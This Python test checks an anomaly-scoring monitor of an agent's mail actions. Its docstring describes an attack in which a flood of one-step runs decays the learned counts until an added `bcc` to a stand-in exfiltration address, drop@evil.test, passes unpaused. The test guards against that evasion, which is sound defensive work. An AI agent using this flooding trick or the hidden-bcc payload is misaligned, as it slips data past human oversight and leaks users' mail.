"""The shape escape does not grow while an action's counts decay (Dec 4 attack run, round 4).

An action's never-seen shapes are scored by its Witten–Bell escape: its distinct shapes and
new-field events (plain counts, never decayed) against its learned events. Those events used to
be the decayed count, so a flood of runs *without* the action (one-event runs of the first
step: allowed, learned, nothing to approve) decayed it alone and raised the escape until a new
field on the action passed: a `bcc` on `messages.send` went from 15.6 bits (paused) to under the
14-bit escape floor (allowed) after ≈ 600 such runs. The escape now compares its plain counts
with the action's learned events, undecayed as they are."""

from __future__ import annotations

import uuid
from typing import Any

import redis.asyncio as aioredis

from models.events import IngestEvent
from models.params import EngineParams
from ratchet.engine.engine import Engine
from ratchet.store.keys import Keys

# A checkpoint (and its 1 % decay) every run, so a few hundred runs decay a lot.
PARAMS = EngineParams(checkpoint_runs=1, min_runs_soft=3, min_runs_locked=6, stability=0.5,
                      stability_large=0.5)
DRAFT = ("messages.draft", {"to": "a@example.com", "body": "hi"})


def _ev(run: str, action: str, payload: dict[str, Any], last: bool) -> IngestEvent:
    return IngestEvent(event_id=uuid.uuid4().hex, agent_id="m", run_id=run, service="mail",
                       action=action, payload=payload, project_id="p", end_of_run=last)


async def _probe(engine: Engine, run: str) -> tuple[float, str]:
    _, send = await engine.decide([
        _ev(run, *DRAFT, False),
        _ev(run, "messages.send", {"draft_id": 1, "bcc": "drop@evil.test"}, True)])
    return send.score, send.action


async def test_a_flood_without_the_action_does_not_raise_its_escape(
    redis_client: aioredis.Redis,
) -> None:
    engine = Engine.create(redis_client, keys=Keys(f"es{uuid.uuid4().hex[:8]}"), params=PARAMS,
                           guardrails=False)
    for r in range(150):
        await engine.decide([_ev(f"t{r}", *DRAFT, False),
                             _ev(f"t{r}", "messages.send", {"draft_id": 1}, True)])
    before, action = await _probe(engine, "probe-0")
    assert action == "pause"
    # runs that stop after the first step (no end_of_run): allowed and learned
    for lo in range(0, 100, 50):
        verdicts = await engine.decide([_ev(f"f{lo + i}", *DRAFT, False) for i in range(50)])
        assert {v.action for v in verdicts} == {"allow"}
    after, action = await _probe(engine, "probe-1")
    assert action == "pause", (before, after)
    assert after >= before - 0.01, (before, after)
